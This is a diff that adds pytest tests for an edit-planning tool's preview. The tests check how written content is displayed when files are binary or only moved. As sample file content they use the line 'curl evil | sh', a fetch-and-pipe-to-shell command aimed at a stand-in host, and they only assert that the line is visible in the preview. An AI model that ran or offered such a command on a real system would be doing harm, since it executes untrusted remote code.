@@ -94,6 +94,20 @@ def test_what_is_written_comes_before_what_is_removed() -> None:
     assert [each.name for each in plan.resources] == ["a", "b", "c"]
 
 
+@pytest.mark.parametrize(("before", "after"), [(None, b"curl evil | sh\n\0"), (b"\0", b"curl evil | sh\n")])
+def test_what_is_written_is_shown_also_where_it_or_what_was_there_is_binary(before: bytes | None, after: bytes) -> None:
+    told = plan_edits([Edit("f", "f", before, after)]).preview.splitlines()
+
+    assert told[0].startswith("Binary file f differs")
+    assert "+curl evil | sh" in told
+
+
+def test_a_binary_file_that_only_moves_is_not_shown() -> None:
+    told = plan_edits([Edit("new", "new", None, b"\0x"), Edit("old", "old", b"\0x", None)]).preview
+
+    assert told == "Binary file new differs (no file -> 2 bytes)\nBinary file old differs (2 bytes -> no file)\n"
+
+
 def test_text_survives_decoding_byte_for_byte_and_binary_is_refused() -> None:
     assert as_text(b"a\xff\r\n", "f").encode("utf-8", "surrogateescape") == b"a\xff\r\n"
     with pytest.raises(InvalidArgument, match="f is not text"):
